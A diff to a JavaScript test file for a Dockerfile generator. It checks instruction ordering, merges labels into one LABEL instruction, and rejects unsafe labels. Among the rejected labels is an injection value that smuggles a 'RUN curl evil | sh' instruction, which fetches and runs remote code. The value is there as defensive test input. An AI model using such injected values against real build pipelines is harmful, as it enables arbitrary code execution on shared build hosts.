@@ -40,10 +40,35 @@ describe('generateDockerfile', () => {
   it('builds FROM the dependency image with no RUN step: tenant code never runs in the builder', () => {
     const text = generateDockerfile(base).dockerfile;
     expect(text).toMatch(/^FROM berth-deps-app1:0123456789abcdef0123456789abcdef$/m);
-    expect(instructions(text)).toEqual(['FROM', 'ENV', 'WORKDIR', 'USER', 'COPY', 'EXPOSE', 'CMD']);
+    expect(instructions(text)).toEqual(['FROM', 'ENV', 'WORKDIR', 'USER', 'EXPOSE', 'CMD', 'COPY']);
     expect(text).not.toMatch(/^RUN /m);
     expect(text).not.toContain('npm ci');
     expect(text).not.toContain('npm install');
+  });
+
+  it('puts everything the source does not change before its COPY, and the labels in one LABEL after it', () => {
+    // The classic builder runs each instruction after a changed one as a container and a commit: a
+    // code-only change now builds the COPY and one LABEL, not EXPOSE, CMD and one step per label too.
+    const text = generateDockerfile({
+      ...base,
+      labels: { 'berth.tenant': 't-1', 'berth.app': 'a-1', 'berth.build': 'b-1' },
+    }).dockerfile;
+    expect(instructions(text)).toEqual(['FROM', 'ENV', 'WORKDIR', 'USER', 'EXPOSE', 'CMD', 'COPY', 'LABEL']);
+    expect(text).toContain(
+      'LABEL berth.app="a-1" \\\n      berth.build="b-1" \\\n      berth.tenant="t-1"\n',
+    );
+  });
+
+  it('refuses a label that could end the instruction or inject another one', () => {
+    for (const labels of [
+      { 'berth.app': 'a"\nRUN curl evil | sh' },
+      { 'berth.app': 'a\\' },
+      { 'berth.app': '$HOME' },
+      { 'berth.app x=': 'a' },
+      { 'berth.app\nRUN': 'a' },
+    ]) {
+      expect(() => generateDockerfile({ ...base, labels })).toThrow(/invalid (label key|value of label)/);
+    }
   });
 
   it("keeps the source's node_modules out, so the installed ones stay", () => {
